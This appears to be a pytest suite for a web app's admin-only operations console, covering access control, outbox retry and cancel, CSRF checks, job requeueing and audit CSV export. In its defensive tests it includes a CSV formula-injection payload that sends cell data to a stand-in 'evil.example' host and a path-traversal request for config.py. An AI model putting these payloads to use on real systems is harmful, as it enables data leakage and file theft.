"""The ops console at /ops: Admins only (FAB login), outbox retry/cancel, background jobs, audit export."""
import csv
import io
import os
import re
import threading
from datetime import datetime, timedelta
from itertools import count

import pytest
from rq import SimpleWorker
from rq.registry import FailedJobRegistry

import app.jobs as app_jobs
from app.extensions import db
from app.models import ActivityEvent, Notification, Task
from app.models.notifications import Channel, NotificationState
from app.security import roles as R
from tests import factories as f
from tests.conftest import csrf_token

VIEWS = ["/ops/", "/ops/outbox/", "/ops/webhooks/", "/ops/jobs/", "/ops/audit/", "/ops/audit/export/csv/"]
OUTBOX_ACTION = "/ops/outbox/action/"
REQUEUE = "/ops/jobs/requeue"
_keys = count(1)
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]


def explode():
    """A job that always fails (run by an in-process worker in the jobs tests)."""
    raise RuntimeError("ops console test failure")


def _user(app, who):
    with app.app_context():
        if who == "client":
            return f.contact(with_user=True).user.id
        return f.staff(who).id


def _notification(app, state=NotificationState.pending, attempts=0, event="task.assigned", last_error=None,
                  send_after=None):
    """A notification row written directly (to a contact), returned as its id."""
    with app.app_context():
        contact = f.contact(last="Outboxed")
        row = Notification(
            recipient_contact_id=contact.id, event=event, object_type="task", object_id=1, channel=Channel.email,
            send_after=send_after or datetime(2030, 1, 1, 9, 0), state=state, attempts=attempts,
            last_error=last_error, idempotency_key=f"ops-test-{next(_keys)}",
        )
        db.session.add(row)
        db.session.commit()
        return row.id


def _state(app, notification_id):
    with app.app_context():
        row = db.session.get(Notification, notification_id)
        return row.state, row.attempts, row.send_after


@pytest.fixture
def admin(app, client, login):
    """A test client signed in as a firm Admin."""
    login(client, _user(app, R.ADMIN))
    return client


def _record_enqueues(monkeypatch):
    """Replace app.jobs.enqueue_delivery (whether or not it exists yet) by a recorder of ids."""
    enqueued = []
    monkeypatch.setattr(app_jobs, "enqueue_delivery", lambda notification_id, *args, **kwargs:
                        enqueued.append(notification_id), raising=False)
    return enqueued


def _token(client):
    return csrf_token(client, "/ops/outbox/")


def test_anonymous_visitors_are_sent_to_the_fab_login(client):
    """GET /ops/ and every ops view without a session redirects to FAB's login page."""
    for path in VIEWS:
        response = client.get(path)
        assert response.status_code == 302, path
        assert "/login/" in response.headers["Location"], path
        assert "next=" in response.headers["Location"], path


@pytest.mark.parametrize("who", [R.STAFF, R.STAFF_ADMIN, R.ENTITIES_ADMIN, "client"])
def test_everyone_but_admins_gets_403(app, client, login, who):
    """Staff, Staff Admin, Entities Admin and client accounts get 403 on /ops/ and every view."""
    login(client, _user(app, who))
    got = {path: client.get(path).status_code for path in VIEWS}
    assert got == dict.fromkeys(VIEWS, 403)


def test_admins_reach_every_view(admin):
    """A firm Admin gets 200 on /ops/ and every view."""
    got = {path: admin.get(path).status_code for path in VIEWS}
    assert got == dict.fromkeys(VIEWS, 200)


def test_every_ops_route_is_behind_the_admin_check(app, client, login):
    """Each /ops route (all Flask-Admin ones included) sends anonymous visitors to the login, Staff Admins get 403."""
    rules = [r for r in app.url_map.iter_rules() if r.rule.startswith("/ops") and not r.endpoint.endswith(".static")]
    assert rules
    assert not [r for r in rules if "redis" in r.rule.lower()]  # no Redis console
    token = csrf_token(client, "/login/")
    for rule in rules:
        url = rule.rule.replace("<export_type>", "csv")
        method = "GET" if "GET" in rule.methods else "POST"
        response = client.open(url, method=method, data={"csrf_token": token} if method == "POST" else None)
        assert response.status_code == 302 and "/login/" in response.headers["Location"], rule.endpoint
    login(client, _user(app, R.STAFF_ADMIN))
    token = csrf_token(client, "/resetmypassword/form")
    for rule in rules:
        url = rule.rule.replace("<export_type>", "csv")
        method = "GET" if "GET" in rule.methods else "POST"
        response = client.open(url, method=method, data={"csrf_token": token} if method == "POST" else None)
        assert response.status_code == 403, rule.endpoint


def test_the_outbox_lists_a_notification(app, admin):
    """A notification row written directly shows in the outbox with its event, recipient and state."""
    notification_id = _notification(app, state=NotificationState.failed, attempts=3, event="work.message_posted",
                                    last_error="SMTP 451 try later")
    body = admin.get("/ops/outbox/").get_data(as_text=True)
    assert "work.message_posted" in body
    assert "Outboxed" in body
    assert "SMTP 451 try later" in body
    assert f'name="rowid" value="{notification_id}"' in body


def test_the_outbox_filters_by_state(app, admin):
    """?flt0_state_equals=failed lists failed rows only."""
    _notification(app, state=NotificationState.failed, event="only.failed")
    _notification(app, state=NotificationState.sent, event="only.sent")
    body = admin.get("/ops/outbox/?flt0_state_equals=failed").get_data(as_text=True)
    assert "only.failed" in body
    assert "only.sent" not in body


def test_retry_makes_a_failed_notification_pending_and_enqueues_it(app, admin, monkeypatch):
    """Retry: failed → pending, attempts kept, due now, and app.jobs.enqueue_delivery gets its id."""
    notification_id = _notification(app, state=NotificationState.failed, attempts=4, send_after=datetime(2030, 1, 1))
    enqueued = _record_enqueues(monkeypatch)
    before = datetime.now()
    response = admin.post(OUTBOX_ACTION, data={"csrf_token": _token(admin), "action": "retry",
                                               "rowid": [notification_id]})
    assert response.status_code == 302
    state, attempts, send_after = _state(app, notification_id)
    assert (state, attempts) == (NotificationState.pending, 4)
    assert before - timedelta(seconds=1) <= send_after <= datetime.now()
    assert enqueued == [notification_id]


def test_retry_leaves_rows_that_are_not_failed(app, admin, monkeypatch):
    """Retry on a sent row changes nothing and enqueues nothing."""
    notification_id = _notification(app, state=NotificationState.sent, attempts=1)
    enqueued = _record_enqueues(monkeypatch)
    admin.post(OUTBOX_ACTION, data={"csrf_token": _token(admin), "action": "retry", "rowid": [notification_id]})
    assert _state(app, notification_id)[:2] == (NotificationState.sent, 1)
    assert enqueued == []


def test_cancel_makes_a_pending_notification_cancelled(app, admin):
    """Cancel: pending → cancelled; a sent row in the same request is left alone."""
    pending = _notification(app, state=NotificationState.pending)
    sent = _notification(app, state=NotificationState.sent)
    response = admin.post(OUTBOX_ACTION, data={"csrf_token": _token(admin), "action": "cancel",
                                               "rowid": [pending, sent]})
    assert response.status_code == 302
    assert _state(app, pending)[0] == NotificationState.cancelled
    assert _state(app, sent)[0] == NotificationState.sent


@pytest.mark.parametrize("action,state", [("retry", NotificationState.failed), ("cancel", NotificationState.pending)])
def test_outbox_actions_without_a_csrf_token_are_refused(app, admin, action, state):
    """The same POST without a CSRF token (or with a wrong one) is 400 and the row is unchanged."""
    notification_id = _notification(app, state=state, attempts=2)
    before = _state(app, notification_id)
    response = admin.post(OUTBOX_ACTION, data={"action": action, "rowid": [notification_id]})
    assert response.status_code == 400
    response = admin.post(OUTBOX_ACTION, data={"csrf_token": "forged", "action": action, "rowid": [notification_id]})
    assert response.status_code == 400
    assert _state(app, notification_id) == before


def test_non_admins_cannot_run_outbox_actions(app, client, login):
    """A Staff Admin with a valid CSRF token gets 403 on Retry and the row stays failed."""
    notification_id = _notification(app, state=NotificationState.failed)
    login(client, _user(app, R.STAFF_ADMIN))
    token = csrf_token(client, "/resetmypassword/form")
    response = client.post(OUTBOX_ACTION, data={"csrf_token": token, "action": "retry", "rowid": [notification_id]})
    assert response.status_code == 403
    assert _state(app, notification_id)[0] == NotificationState.failed


def test_the_outbox_and_audit_log_are_read_only(app, admin):
    """Flask-Admin's create, edit, delete and inline-edit routes change nothing, even for an Admin."""
    notification_id = _notification(app, state=NotificationState.failed, attempts=2)
    _event(app, "kept event", datetime(2024, 1, 1))
    token = _token(admin)
    admin.post("/ops/outbox/delete/", data={"csrf_token": token, "id": notification_id})
    admin.post(f"/ops/outbox/edit/?id={notification_id}", data={"csrf_token": token, "state": "sent", "attempts": 0})
    admin.post("/ops/outbox/new/", data={"csrf_token": token, "event": "forged", "idempotency_key": "forged"})
    assert admin.post("/ops/outbox/ajax/update/", data={"csrf_token": token, "list_form_pk": notification_id,
                                                         "state": "sent"}).status_code == 404
    with app.app_context():
        event_id = db.session.query(ActivityEvent.id).scalar()
    admin.post("/ops/audit/delete/", data={"csrf_token": token, "id": event_id})
    assert _state(app, notification_id)[:2] == (NotificationState.failed, 2)
    with app.app_context():
        assert db.session.query(Notification).count() == 1
        assert db.session.get(ActivityEvent, event_id) is not None


@pytest.fixture
def failed_job(app):
    """A job that raised, run by an in-process worker on Portico's queue; removed afterwards."""
    with app.app_context():
        queue = app_jobs.queue()
        queue.empty()
        job = queue.enqueue(explode)
        SimpleWorker([queue], connection=queue.connection).work(burst=True)
        assert job.id in FailedJobRegistry(queue=queue)
    yield job.id
    with app.app_context():
        queue = app_jobs.queue()
        FailedJobRegistry(queue=queue).remove(job.id, delete_job=False)
        queue.remove(job.id)
        job.delete()


def test_the_jobs_page_lists_a_failed_job(admin, failed_job):
    """The failed job shows with its function and the last line of its exception, and a Requeue form."""
    body = admin.get("/ops/jobs/").get_data(as_text=True)
    assert failed_job in body
    assert "tests.test_ops.explode" in body
    assert "RuntimeError: ops console test failure" in body
    assert re.search(r'data-count="failed">[1-9]', body)
    assert f'name="job_id" value="{failed_job}"' in body


def test_requeue_moves_a_failed_job_back_to_the_queue(app, admin, failed_job):
    """POST Requeue (with the CSRF token) takes the job out of the failed registry and puts it on the queue."""
    data = {"csrf_token": _token(admin), "queue": app_jobs.QUEUES[0], "job_id": failed_job}
    response = admin.post(REQUEUE, data=data)
    assert response.status_code == 302
    with app.app_context():
        queue = app_jobs.queue()
        assert failed_job not in FailedJobRegistry(queue=queue)
        assert failed_job in queue.job_ids


def test_requeue_without_a_csrf_token_is_refused(app, admin, failed_job):
    """Requeue without a token is 400 and the job stays failed; an unknown queue is 404."""
    assert admin.post(REQUEUE, data={"queue": app_jobs.QUEUES[0], "job_id": failed_job}).status_code == 400
    assert admin.post(REQUEUE, data={"csrf_token": _token(admin), "queue": "other",
                                     "job_id": failed_job}).status_code == 404
    with app.app_context():
        assert failed_job in FailedJobRegistry(queue=app_jobs.queue())


def _event(app, summary, created_on, verb="document.uploaded"):
    with app.app_context():
        db.session.add(ActivityEvent(verb=verb, object_type="document", object_id=7, summary=summary,
                                     created_on=created_on, ip="192.0.2.1"))
        db.session.commit()


def test_the_audit_log_is_newest_first(app, admin):
    """The audit list shows the newest event above the older one."""
    _event(app, "older event summary", datetime(2024, 1, 1, 8, 0))
    _event(app, "newer event summary", datetime(2024, 6, 1, 8, 0))
    body = admin.get("/ops/audit/").get_data(as_text=True)
    assert body.index("newer event summary") < body.index("older event summary")


def test_the_audit_log_exports_csv(app, admin):
    """The CSV export holds an event's summary; a cell starting with '=' is defused."""
    _event(app, "Uploaded Q3 VAT return", datetime(2024, 6, 1, 8, 0))
    _event(app, "=HYPERLINK(\"http://evil.example\")", datetime(2024, 6, 2, 8, 0))
    response = admin.get("/ops/audit/export/csv/")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert "Uploaded Q3 VAT return" in body
    assert "'=HYPERLINK" in body
    assert ",=HYPERLINK" not in body and ",\"=HYPERLINK" not in body


def test_actions_work_in_a_browser_under_the_csp(app):
    """In Chromium, with Portico's CSP: the per-row Cancel form and the "With selected" Retry work, no CSP errors."""
    pytest.importorskip("playwright")
    if not os.path.exists(CHROMIUM):
        pytest.skip(reason="no Chromium at " + CHROMIUM)
    from playwright.sync_api import sync_playwright
    from werkzeug.serving import make_server

    with app.app_context():
        f.staff(R.ADMIN, username="opsbrowser")
        f.no_second_factor_policy()  # this test is about the ops console, not the two-step sign-in
    pending = _notification(app, state=NotificationState.pending)
    failed = [_notification(app, state=NotificationState.failed, attempts=n) for n in (1, 4)]
    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_port}"
    problems = []
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            try:
                page = browser.new_page()
                page.set_default_timeout(15_000)
                page.on("console", lambda m: problems.append(m.text)
                        if m.type == "error" and not m.text.startswith("Failed to load resource") else None)
                page.on("response", lambda r: problems.append(f"{r.status} {r.url}")
                        if r.status >= 400 and not r.url.endswith("/favicon.ico") else None)
                page.on("pageerror", lambda error: problems.append(str(error)))
                page.on("dialog", lambda dialog: dialog.accept())
                page.goto(base + "/login/")
                page.fill("input[name=username]", "opsbrowser")
                page.fill("input[name=password]", f.PASSWORD)
                page.click("[type=submit]")
                page.wait_for_load_state()
                page.goto(base + "/ops/outbox/")
                with page.expect_navigation():
                    page.click("form.icon button:has-text('Cancel')")
                assert _state(app, pending)[0] == NotificationState.cancelled
                for notification_id in failed:
                    page.check(f"input.action-checkbox[value='{notification_id}']")
                page.click("text=With selected")
                with page.expect_navigation():
                    page.click("[data-ops-action=retry]")
                assert [_state(app, n)[0] for n in failed] == [NotificationState.pending] * 2
                page.click("text=Add Filter")
                page.click(".field-filters a.filter >> nth=0")
                assert page.locator("table.filters tr").count() == 1
                for path in ("/ops/", "/ops/jobs/", "/ops/audit/"):
                    page.goto(base + path)
            finally:
                browser.close()
    finally:
        server.shutdown()
    assert problems == []


def test_development_mail_is_listed_for_admins_only(app, client, login, tmp_path):
    """Without MAIL_SERVER mails land in instance/mail; /ops/mail lists and shows them, to Admins only."""
    from app import mailer
    from app.security import roles as R
    from tests import factories as f

    with app.app_context():
        admin, staff = f.staff(R.ADMIN).id, f.staff(R.STAFF).id
        server = app.config["MAIL_SERVER"]
        app.config["MAIL_SERVER"] = ""
        try:
            with app.test_request_context():
                mailer.send("dev@client.example", "Dev subject", "Plain body", "<p>HTML body</p>")
        finally:
            app.config["MAIL_SERVER"] = server
    login(client, staff)
    assert client.get("/ops/mail/").status_code == 403
    login(client, admin)
    listing = client.get("/ops/mail/").get_data(as_text=True)
    assert "Dev subject" in listing and "dev@client.example" in listing
    import re

    name = re.search(r'href="/ops/mail/([^"/]+\.eml)"', listing).group(1)
    assert client.get("/ops/mail/..%2F..%2Fconfig.py").status_code == 404
    assert "Plain body" in client.get(f"/ops/mail/{name}").get_data(as_text=True)


def test_production_neither_serves_nor_writes_development_mail(app, tmp_path):
    """PORTICO_ENV=production: no /ops/mail route, and without MAIL_SERVER a mail fails instead of
    landing (sign-in codes included) in instance/mail."""
    import os
    import warnings

    import pytest

    from app import create_app, mailer
    from config import ProductionConfig
    from tests.conftest import PorticoTestConfig

    class Prod(ProductionConfig):
        SECRET_KEY = "p" * 48
        SQLALCHEMY_DATABASE_URI = PorticoTestConfig.SQLALCHEMY_DATABASE_URI
        REDIS_URL = PorticoTestConfig.REDIS_URL
        RATELIMIT_ENABLED = False
        MAIL_SERVER = ""

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "SQLite in production": expected here
        production = create_app(Prod)
    production.instance_path = str(tmp_path)
    assert not [r for r in production.url_map.iter_rules() if r.rule.startswith("/ops/mail")]
    with production.test_request_context(), pytest.raises(RuntimeError, match="MAIL_SERVER"):
        mailer.send("dev@client.example", "Your code", "12345678", "<p>12345678</p>")
    assert not os.path.exists(os.path.join(tmp_path, "mail"))


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# 8 --------------------------------------------------------------------------------------------------
def test_audit_csv_neutralises_formulas_in_user_and_entity_cells(app, client, portal_login, login, world):
    """Contact named "=HYPERLINK(...)" was a formula in the audit CSV: User/Entity cells are now neutralised."""
    with app.app_context():
        entity = db.session.get(Task, world.task).entity
        entity.name = "+SUM(1,2)"
        db.session.commit()
    portal_login(client, world.cora)
    token = csrf_token(client, "/portal/settings/profile")
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    response = client.post("/portal/settings/profile", data={
        "csrf_token": token, "first_name": payload, "last_name": "X", "phone": "", "language": "en"})
    assert response.status_code == 302
    assert client.get(f"/portal/tasks/{world.task}").status_code == 200  # "task.opened", actor = Cora
    with app.app_context():
        admin = f.staff(R.ADMIN).id
    staff = app.test_client()
    login(staff, admin)
    rows = list(csv.reader(io.StringIO(staff.get("/ops/audit/export/csv/").get_data(as_text=True))))
    opened = [row for row in rows if "task.opened" in row]
    assert opened
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert any(cell.startswith("'=HYPERLINK(") for cell in opened[0])
    assert any(cell == "'+SUM(1,2)" for cell in opened[0])
